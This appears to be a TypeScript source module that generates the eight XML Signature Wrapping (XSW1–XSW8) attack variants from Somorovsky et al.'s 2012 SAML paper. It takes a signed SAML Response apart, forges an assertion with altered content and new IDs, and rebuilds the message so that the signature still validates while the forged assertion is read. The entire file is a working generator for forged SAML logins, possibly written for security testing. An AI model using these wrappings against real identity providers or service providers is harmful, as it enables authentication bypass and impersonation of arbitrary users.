/**
 * Ways of wrapping a signed element, so that one that is not signed is read in its place: eight by the numbers of
 * Somorovsky et al. 2012, "On Breaking SAML: Be Whoever You Want to Be", 21st USENIX Security Symposium. 1 and 2 are of
 * a signed Response, the others of a signed Assertion.
 */
export const WRAPPINGS: Readonly<Record<string, (parts: WrappingParts) => string>> = {
  "XSW1: signed response inside the signature": ({ head, signature, body, original, tail }) =>
    head + signature.replace("</Signature>", `<Object>${original}</Object></Signature>`) + body + tail,
  "XSW2: signed response before the signature": ({ head, signature, body, original, tail }) =>
    head + original + signature + body + tail,
  "XSW3: forged assertion before the signed one": ({ head, status, forged, signed, tail }) =>
    head + status + forged + signed + tail,
  "XSW4: signed assertion inside the forged one": ({ head, status, forged, signed, tail }) =>
    head + status + within(forged, signed) + tail,
  "XSW5: signature in the forged assertion, signed one after it": ({ head, status, forged, signature, bare, tail }) =>
    head + status + within(forged, signature) + bare + tail,
  "XSW6: signed assertion inside the signature of the forged one": ({ head, status, forged, signature, bare, tail }) =>
    head + status + within(forged, signature.replace("</Signature>", `${bare}</Signature>`)) + tail,
  "XSW7: forged assertion in Extensions": ({ head, status, forged, signed, tail }) =>
    `${head}<samlp:Extensions>${forged}</samlp:Extensions>${status}${signed}${tail}`,
  "XSW8: signed assertion in an Object of the forged one": ({ head, status, forged, signature, bare, tail }) =>
    head + status + within(forged, signature.replace("</Signature>", `<Object>${bare}</Object></Signature>`)) + tail,
};

export type WrappingParts = {
  /** The forged Response up to its Issuer, and its end. */
  readonly head: string;
  readonly tail: string;
  readonly status: string;
  readonly signature: string;
  /** The Assertion that is signed, and the same without its Signature. */
  readonly signed: string;
  readonly bare: string;
  readonly forged: string;
  /** What the forged Response has after its signature, and the Response that was signed, without it. */
  readonly body: string;
  readonly original: string;
};

/** Takes a signed Response apart. The forged one has the ids that `newId` makes of those of the signed one. */
export function takeApart(
  xml: string,
  forge: { readonly replace: readonly [from: string, to: string]; readonly newId: (id: string) => string },
): WrappingParts {
  const find = (pattern: RegExp, text = xml) => pattern.exec(text)?.[0] ?? "";
  const signed = find(/<saml:Assertion.*<\/saml:Assertion>/s);
  const signature = find(/<Signature.*?<\/Signature>/s);
  const status = find(/<samlp:Status>.*<\/samlp:Status>/s);
  const bare = signed.replace(signature, "");
  const rename = (text: string) => text.replace(/ ID="([^"]*)"/, (_, id: string) => ` ID="${forge.newId(id)}"`);
  const forged = rename(bare.replaceAll(...forge.replace));
  const head = rename(find(/^.*?<\/saml:Issuer>/s));
  const original = xml.replace(signature, "");
  return { head, tail: "</samlp:Response>", status, signature, signed, bare, forged, body: status + forged, original };
}

function within(outer: string, inner: string): string {
  return outer.replace("</saml:Issuer>", `</saml:Issuer>${inner}`);
}
